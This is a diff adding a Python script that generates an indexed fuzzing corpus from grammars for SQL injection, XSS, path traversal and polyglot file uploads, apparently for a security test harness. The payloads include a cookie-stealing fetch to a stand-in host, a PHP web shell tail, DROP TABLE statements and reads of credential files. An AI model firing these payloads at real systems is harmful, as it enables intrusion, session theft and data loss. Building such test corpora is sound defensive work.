@@ -0,0 +1,393 @@
+#!/usr/bin/env python3
+"""
+Fuzz Payload Corpus
+Builds a shared SQLi / XSS / path traversal / polyglot file-header corpus from
+small grammars and mutators, stores it as one indexed binary file and serves it
+through mmap, so fuzzers can stream millions of payloads without materializing
+them as Python objects and opening a corpus costs almost nothing. The default
+corpus lives in the temp directory (HARNESS_PAYLOAD_CORPUS overrides the path)
+and is rebuilt when missing or written by an older version.
+
+File layout (little endian):
+  header    MAGIC, version u32, entry count u64, index offset u64, table offset u64
+  data      payload bytes, back to back, grouped by category
+  index     one ENTRY record per payload: offset u64, length u32, category u16, mutator u16
+  table     JSON: category names + [first, last) entry ranges, mutator names, build params
+
+Usage:
+  python3 payload_corpus.py build [--out corpus.wsc] [--limit N] [--category sqli ...]
+  python3 payload_corpus.py stats [path]
+  python3 payload_corpus.py show [path] [--category xss] [--count 20]
+"""
+
+import argparse
+import functools
+import hashlib
+import itertools
+import json
+import math
+import mmap
+import os
+import random
+import re
+import struct
+import sys
+import tempfile
+from urllib.parse import quote
+
+from multipart_stream import MAGIC_BYTES
+
+# Configuration
+DEFAULT_PATH = os.environ.get("HARNESS_PAYLOAD_CORPUS") or os.path.join(tempfile.gettempdir(), "harness-payloads.wsc")
+
+MAGIC = b"WSCORPUS"
+VERSION = 2
+HEADER = struct.Struct("<8sIQQQ")
+ENTRY = struct.Struct("<QIHH")
+
+# Test settings
+LIMIT_PER_CATEGORY = 50000    # Base payloads x mutations kept per category
+MAX_PAYLOAD = 4096
+
+_NONTERMINAL = re.compile(r"\$\{(\w+)\}")
+
+# Grammars: symbol -> alternatives; ${symbol} references expand recursively.
+GRAMMARS = {
+    "sqli": {
+        "start": ["${prefix}${close}${ws}${tautology}${ws}${terminator}",
+                  "${prefix}${close}${ws}${union}${ws}${terminator}",
+                  "${prefix}${close};${ws}${stacked}${ws}${terminator}",
+                  "${prefix}${close}${ws}${blind}${ws}${terminator}",
+                  "${prefix}${close}${ws}${error}${ws}${terminator}"],
+        "prefix": ["", "1", "-1", "admin", "test", "0x00"],
+        "close": ["'", "\"", "')", "\")", "'))", ")", "`", ""],
+        "ws": [" ", "/**/", "\t", "%0a"],
+        "tautology": ["OR '1'='1", "OR 1=1", "OR 'a'='a'", "|| 1=1", "OR true", "OR 2>1"],
+        "union": ["UNION SELECT NULL", "UNION SELECT NULL,NULL", "UNION ALL SELECT NULL,NULL,NULL",
+                  "UNION SELECT email,password FROM users", "UNION SELECT token FROM personal_access_tokens"],
+        "stacked": ["SELECT pg_sleep(2)", "SELECT SLEEP(2)", "DROP TABLE users", "UPDATE users SET name='x'"],
+        "blind": ["AND SLEEP(2)", "AND 1=(SELECT 1 FROM pg_sleep(2))", "AND 1=1", "AND 1=2",
+                  "AND (SELECT COUNT(*) FROM users)>0", "AND BENCHMARK(5000000,MD5(1))"],
+        "error": ["AND extractvalue(1,concat(0x7e,version()))", "AND 1=CAST(version() AS int)",
+                  "AND updatexml(1,concat(0x7e,user()),1)", "ORDER BY 100"],
+        "terminator": ["--", "-- -", "#", "/*", ";--", ""],
+    },
+    "xss": {
+        "start": ["${breakout}${vector}", "${vector}", "${breakout}${vector}${tail}"],
+        "breakout": ["\">", "'>", "</title>", "</textarea>", "</script>", "-->", "\"><!--", "javascript:/*"],
+        "vector": ["<script>${js}</script>", "<img src=x onerror=${js}>", "<svg onload=${js}>",
+                   "<svg><script>${js}</script></svg>", "<iframe src=javascript:${js}>",
+                   "<body onload=${js}>", "<details open ontoggle=${js}>", "<a href=javascript:${js}>x</a>",
+                   "<math><mi xlink:href=javascript:${js}>x</mi></math>", "{{constructor.constructor('${js}')()}}",
+                   "<input autofocus onfocus=${js}>", "<video><source onerror=${js}></video>"],
+        "js": ["alert(1)", "alert(document.domain)", "confirm`1`", "fetch('//x.test/'+document.cookie)",
+               "eval(atob('YWxlcnQoMSk='))"],
+        "tail": ["<!--", "//", "\"", "'"],
+    },
+    "traversal": {
+        "start": ["${up}${target}", "${root}${target}", "${scheme}${root}${target}", "${up}${target}${suffix}"],
+        "up": ["../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "....//", "..%c0%af", "..%5c"],
+        "root": ["/", "\\", "C:\\", "//", "file:///"],
+        "scheme": ["", "php://filter/convert.base64-encode/resource=", "phar://", "zip://"],
+        "target": ["etc/passwd", ".env", "storage/logs/laravel.log", "config/app.php", "artisan",
+                   "windows/win.ini", "proc/self/environ", "database/database.sqlite"],
+        "suffix": ["%00", "%00.png", "?", "#", ".png", "/."],
+    },
+}
+
+# Polyglots: a file-type magic header followed by an active-content tail
+POLYGLOT_TAILS = [
+    b"<?php echo 'pwned'; ?>",
+    b"<?php system($_GET['c']); ?>",
+    b"<script>alert(1)</script>",
+    b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
+    b"<html><body onload=alert(1)>",
+    b"#!/bin/sh\nid\n",
+    b"%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj",
+    b"GIF89a/*<?php __HALT_COMPILER(); ?>*/",
+]
+POLYGLOT_SEPARATORS = [b"", b"\n", b"\x00", b"\r\n\r\n", b"<!--"]
+
+CATEGORIES = ["sqli", "xss", "traversal", "polyglot"]
+
+
+def _count(grammar, text, cache, depth=0):
+    """Number of sentences `text` expands to (nonterminals nested deeper than 8 are left as they are)."""
+    key = (text, depth)
+    if key not in cache:
+        match = _NONTERMINAL.search(text)
+        if not match or depth > 8:
+            cache[key] = 1
+        else:
+            tail = text[match.end():]
+            cache[key] = sum(_count(grammar, alternative + tail, cache, depth + 1)
+                             for alternative in grammar[match.group(1)])
+    return cache[key]
+
+
+def _unrank(grammar, text, cache, rank, depth=0):
+    """The `rank`-th sentence of `text`, in cartesian order with the leftmost nonterminal varying slowest."""
+    match = _NONTERMINAL.search(text)
+    if not match or depth > 8:
+        return text
+    head, tail = text[:match.start()], text[match.end():]
+    for alternative in grammar[match.group(1)]:
+        size = _count(grammar, alternative + tail, cache, depth + 1)
+        if rank < size:
+            return head + _unrank(grammar, alternative + tail, cache, rank, depth + 1)
+        rank -= size
+    raise IndexError(rank)
+
+
+def polyglot_bases():
+    for (magic, header), separator, tail in itertools.product(
+            sorted(MAGIC_BYTES.items()), POLYGLOT_SEPARATORS, POLYGLOT_TAILS):
+        if magic in ("php",):
+            continue
+        yield header + separator + tail
+
+
+# Mutators: name -> function(bytes, rng) -> bytes. "identity" must stay first.
+def _swap_case(payload, rng):
+    return bytes(c ^ 0x20 if 97 <= (c | 0x20) <= 122 and rng.random() < 0.5 else c for c in payload)
+
+
+MUTATORS = {
+    "identity": lambda p, rng: p,
+    "url": lambda p, rng: quote(p, safe="").encode(),
+    "double_url": lambda p, rng: quote(quote(p, safe=""), safe="").encode(),
+    "case": _swap_case,
+    "html_entities": lambda p, rng: b"".join(b"&#%d;" % c if c in b"<>'\"" else bytes([c]) for c in p),
+    "null_byte": lambda p, rng: p + b"\x00",
+    "unicode": lambda p, rng: p.replace(b"<", "\uff1c".encode()).replace(b"'", "\u2019".encode()),
+    "whitespace": lambda p, rng: p.replace(b" ", rng.choice([b"\t", b"\n", b"\x0b", b"/**/", b"+"])),
+    "truncate": lambda p, rng: p[:max(1, len(p) * 2 // 3)],
+    "repeat": lambda p, rng: p * 2,
+}
+MUTATOR_NAMES = list(MUTATORS)
+# Text mutators make little sense on binary headers
+BINARY_MUTATORS = ["identity", "null_byte", "truncate", "repeat"]
+
+
+def generate(category, limit, seed=0):
+    """
+    Yield (payload, mutator_id) for `category`, deduplicated, at most `limit` entries.
+
+    Every (start alternative, mutator) pair is its own stream, and the streams are
+    taken round-robin, so a capped category still covers every grammar branch and
+    every mutator. Each stream walks its sentences in a seeded pseudo-random order
+    (sentences are unranked from an index, never materialized), so the symbols
+    deep in a sentence vary as much as the leading ones.
+    """
+    rng = random.Random(f"{seed}:{category}")
+    if category == "polyglot":
+        bases = list(polyglot_bases())
+        groups = [(len(bases), bases.__getitem__)]
+        mutators = BINARY_MUTATORS
+    else:
+        grammar, counts = GRAMMARS[category], {}
+        groups = [(_count(grammar, start, counts), functools.partial(_unrank, grammar, start, counts))
+                  for start in grammar["start"]]
+        mutators = MUTATOR_NAMES
+    streams = [_stream(size, sentence, name, rng) for size, sentence in groups for name in mutators]
+    seen = set()
+    produced = 0
+    while streams and produced < limit:
+        for stream in list(streams):
+            entry = next(stream, None)
+            if entry is None:
+                streams.remove(stream)
+                continue
+            payload, name = entry
+            payload = MUTATORS[name](payload, rng)[:MAX_PAYLOAD]
+            digest = hashlib.blake2b(payload, digest_size=8).digest()
+            if not payload or digest in seen:
+                continue
+            seen.add(digest)
+            yield payload, MUTATOR_NAMES.index(name)
+            produced += 1
+            if produced >= limit:
+                return
+
+
+def _stream(size, sentence, mutator, rng):
+    """(base payload, mutator) for all `size` sentences, in a seeded affine permutation of their ranks."""
+    if not size:
+        return
+    step = max(1, int(size * 0.6180339887)) | 1
+    while math.gcd(step, size) != 1:
+        step += 1
+    start = rng.randrange(size)
+    for i in range(size):
+        base = sentence((start + i * step) % size)
+        yield (base if isinstance(base, bytes) else base.encode()), mutator
+
+
+def build(path=DEFAULT_PATH, categories=None, limit=LIMIT_PER_CATEGORY, seed=0):
+    """Write a corpus file and return its table. Payloads go straight to disk."""
+    categories = categories or CATEGORIES
+    table = {"categories": {}, "mutators": MUTATOR_NAMES, "seed": seed, "limit": limit}
+    directory = os.path.dirname(os.path.abspath(path))
+    count = 0
+    with tempfile.TemporaryFile(dir=directory) as index, \
+            open(path + ".tmp", "wb") as out:
+        out.write(HEADER.pack(MAGIC, VERSION, 0, 0, 0))
+        offset = HEADER.size
+        for category_id, category in enumerate(categories):
+            first = count
+            for payload, mutator in generate(category, limit, seed):
+                out.write(payload)
+                index.write(ENTRY.pack(offset, len(payload), category_id, mutator))
+                offset += len(payload)
+                count += 1
+            table["categories"][category] = [first, count]
+
+        index_offset = offset
+        index.seek(0)
+        while True:
+            block = index.read(1 << 20)
+            if not block:
+                break
+            out.write(block)
+        table_offset = index_offset + count * ENTRY.size
+        out.write(json.dumps(table).encode())
+        out.seek(0)
+        out.write(HEADER.pack(MAGIC, VERSION, count, index_offset, table_offset))
+    os.replace(path + ".tmp", path)
+    return table
+
+
+class PayloadCorpus:
+    """
+    Read-only, mmap-backed view of a corpus file. Payloads are returned as
+    memoryview slices of the mapping; nothing is copied until the caller does so.
+    Safe to share across asyncio tasks; reopen per process.
+    """
+
+    def __init__(self, path=DEFAULT_PATH):
+        self.path = path
+        self._file = open(path, "rb")
+        self._map = mmap.mmap(self._file.fileno(), 0, access=mmap.ACCESS_READ)
+        self._view = memoryview(self._map)
+        magic, version, self.count, self._index, table_offset = HEADER.unpack_from(self._map, 0)
+        if magic != MAGIC or version != VERSION:
+            self.close()
+            raise ValueError(f"{path} is not a version {VERSION} payload corpus")
+        self.table = json.loads(bytes(self._view[table_offset:]))
+        self.categories = {name: tuple(bounds) for name, bounds in self.table["categories"].items()}
+        self._category_names = list(self.categories)
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *exc):
+        self.close()
+
+    def close(self):
+        # Slices still held by callers keep the mapping alive; it is then
+        # released when the last one is garbage collected
+        try:
+            if getattr(self, "_view", None) is not None:
+                self._view.release()
+            if getattr(self, "_map", None) is not None:
+                self._map.close()
+        except BufferError:
+            pass
+        self._view = self._map = None
+        self._file.close()
+
+    def __len__(self):
+        return self.count
+
+    def entry(self, i):
+        """(offset, length, category name, mutator name) of entry i."""
+        offset, length, category, mutator = ENTRY.unpack_from(self._map, self._index + i * ENTRY.size)
+        return offset, length, self._category_names[category], self.table["mutators"][mutator]
+
+    def __getitem__(self, i):
+        if not 0 <= i < self.count:
+            raise IndexError(i)
+        offset, length, _, _ = ENTRY.unpack_from(self._map, self._index + i * ENTRY.size)
+        return self._view[offset:offset + length]
+
+    def range(self, category=None):
+        """[first, last) entry range for a category, or the whole corpus."""
+        return self.categories[category] if category else (0, self.count)
+
+    def iter(self, category=None, shard=0, shards=1):
+        """Yield (index, payload memoryview); `shard`/`shards` split the range between workers."""
+        first, last = self.range(category)
+        for i in range(first + shard, last, shards):
+            yield i, self[i]
+
+    def sample(self, n, rng=None, category=None):
+        """Yield n random (index, payload) pairs without building an index list."""
+        rng = rng or random.Random()
+        first, last = self.range(category)
+        for _ in range(n if last > first else 0):
+            i = rng.randrange(first, last)
+            yield i, self[i]
+
+    def text(self, i):
+        """Payload i decoded for use in query strings / JSON bodies."""
+        return bytes(self[i]).decode("utf-8", errors="surrogateescape")
+
+
+def open_corpus(path=DEFAULT_PATH, build_missing=True, **build_kwargs):
+    """Open `path`, building it with default settings first if it is missing or an older version."""
+    if build_missing and not os.path.exists(path):
+        build(path, **build_kwargs)
+    try:
+        return PayloadCorpus(path)
+    except ValueError:
+        if not build_missing:
+            raise
+    build(path, **build_kwargs)
+    return PayloadCorpus(path)
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Build and inspect the fuzz payload corpus")
+    sub = parser.add_subparsers(dest="command", required=True)
+    build_cmd = sub.add_parser("build")
+    build_cmd.add_argument("--out", default=DEFAULT_PATH)
+    build_cmd.add_argument("--limit", type=int, default=LIMIT_PER_CATEGORY, help="Entries per category")
+    build_cmd.add_argument("--category", action="append", choices=CATEGORIES)
+    build_cmd.add_argument("--seed", type=int, default=0)
+    stats_cmd = sub.add_parser("stats")
+    stats_cmd.add_argument("path", nargs="?", default=DEFAULT_PATH)
+    show_cmd = sub.add_parser("show")
+    show_cmd.add_argument("path", nargs="?", default=DEFAULT_PATH)
+    show_cmd.add_argument("--category", choices=CATEGORIES)
+    show_cmd.add_argument("--count", type=int, default=20)
+    show_cmd.add_argument("--random", action="store_true")
+    args = parser.parse_args()
+
+    if args.command == "build":
+        table = build(args.out, args.category, args.limit, args.seed)
+        total = sum(last - first for first, last in table["categories"].values())
+        print(f"✅ Built {args.out}: {total} payloads, {os.path.getsize(args.out) / 1048576:.1f} MB")
+        for name, (first, last) in table["categories"].items():
+            print(f"   {name:<10} {last - first}")
+        return
+
+    try:
+        corpus = PayloadCorpus(args.path)
+    except (OSError, ValueError) as e:
+        print(f"❌ {e}")
+        sys.exit(1)
+    with corpus:
+        if args.command == "stats":
+            print(f"{args.path}: {len(corpus)} payloads, {os.path.getsize(args.path) / 1048576:.1f} MB")
+            for name, (first, last) in corpus.categories.items():
+                print(f"   {name:<10} {last - first}")
+        else:
+            entries = (corpus.sample(args.count, category=args.category) if args.random
+                       else itertools.islice(corpus.iter(args.category), args.count))
+            for i, payload in entries:
+                _, _, category, mutator = corpus.entry(i)
+                print(f"{i:>9} {category:<10} {mutator:<14} {bytes(payload)[:100]!r}")
+
+
+if __name__ == "__main__":
+    main()